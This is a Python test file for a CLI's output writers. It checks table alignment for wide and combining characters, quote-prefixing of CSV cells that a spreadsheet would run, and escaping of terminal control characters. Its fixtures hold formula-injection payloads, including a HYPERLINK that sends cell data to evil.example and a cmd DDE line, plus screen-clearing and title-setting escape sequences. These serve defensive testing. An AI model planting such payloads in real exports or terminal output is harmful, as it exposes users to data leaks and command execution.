"""The table writer on its own: alignment by display width, and widths that only grow."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from typing import Any

from cloudcx import User
from cloudcx.cli._output import display_width, make_writer


def _user(login: str, first: str, **extra: Any) -> User:
    data = {
        "id": "75d86d40-f7d9-4025-8a1c-8a868f918289",
        "loginCode": login,
        "roles": ["Agents"],
        "firstName": first,
        "lastName": "Test",
        "email": f"{login}@example.com",
        "phoneNumber": None,
        "uniqueCode": None,
    }
    return User.from_dict(data | extra)


def test_display_width_counts_terminal_columns() -> None:
    assert display_width("abc") == 3
    assert display_width("王小明") == 6
    assert display_width("Zoe\u0308") == 3  # a combining diaeresis takes no column


def test_wide_and_combining_characters_stay_aligned() -> None:
    out = io.StringIO()
    writer = make_writer("table", out, ["firstName", "loginCode"])
    writer.write([_user("wang", "王小明"), _user("zoe", "Zoe\u0308"), _user("al", "Al")])
    writer.close()
    header, *rows = out.getvalue().splitlines()
    assert header == "firstName  loginCode"
    column = display_width(header[: header.index("loginCode")])
    for row in rows:
        login = row.split()[-1]
        assert display_width(row[: row.index(login)]) == column


def test_widths_grow_from_a_later_page_on() -> None:
    out = io.StringIO()
    writer = make_writer("table", out, ["loginCode", "firstName"])
    writer.write([_user("a", "X")])
    writer.write([_user("a-much-longer-login", "Y")])
    writer.close()
    assert out.getvalue().splitlines() == [
        "loginCode  firstName",
        "a          X",
        "a-much-longer-login  Y",
    ]


def _hostile() -> list[User]:
    return [
        _user("f1", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
        _user("f2", "+cmd|' /C calc'!A0", phoneNumber="+1-555-0100"),
        _user("f3", "-2+3", lastName="@SUM(A1:A9)"),
        _user("f4", "\t=1+1", lastName="\r=1+1"),
        _user("f5", "a=b", lastName="'quoted", phoneNumber="555-0100"),
    ]


def test_csv_prefixes_cells_a_spreadsheet_would_run() -> None:
    out = io.StringIO()
    writer = make_writer("csv", out, ["loginCode", "firstName", "lastName", "phoneNumber"])
    writer.write(_hostile())
    writer.close()
    assert out.getvalue().startswith("loginCode,firstName,lastName,phoneNumber\nf1,")
    header, *rows = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert header == ["loginCode", "firstName", "lastName", "phoneNumber"]
    assert rows == [
        ["f1", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "Test", ""],
        ["f2", "'+cmd|' /C calc'!A0", "Test", "'+1-555-0100"],
        ["f3", "'-2+3", "'@SUM(A1:A9)", ""],
        ["f4", "'\t=1+1", "'\r=1+1", ""],
        # Only the first character counts; a leading quote is no trigger.
        ["f5", "a=b", "'quoted", "555-0100"],
    ]


def test_json_and_jsonl_keep_the_exact_values() -> None:
    users = _hostile()
    for fmt in ("json", "jsonl"):
        out = io.StringIO()
        writer = make_writer(fmt, out, ["firstName", "lastName", "phoneNumber"])
        writer.write(users)
        writer.close()
        text = out.getvalue()
        records = json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
        assert [r["firstName"] for r in records] == [u.first_name for u in users]
        assert [r["lastName"] for r in records] == [u.last_name for u in users]
        assert records[1]["phoneNumber"] == "+1-555-0100"


def _controls(text: str) -> set[str]:
    return {char for char in text if unicodedata.category(char) == "Cc"}


def test_the_table_shows_control_characters_instead_of_obeying_them() -> None:
    out = io.StringIO()
    writer = make_writer("table", out, ["loginCode", "firstName", "lastName"])
    writer.write(
        [
            _user("x1", "Eve\x1b[2J\x1b]0;pwned\x07", lastName="Bell\x7f\x9b31m"),
            _user("x2", "Tab\there", lastName="Line\nbreak\r\x00"),
        ]
    )
    writer.close()
    text = out.getvalue()
    assert _controls(text) == {"\n"}
    header, first, second = text.splitlines()
    assert first.split() == ["x1", r"Eve\x1b[2J\x1b]0;pwned\x07", r"Bell\x7f\x9b31m"]
    assert second.split() == ["x2", r"Tab\x09here", r"Line\x0abreak\x0d\x00"]
    # Aligned by the escaped text's width.
    assert first.index("Bell") == second.index("Line") == header.index("lastName")
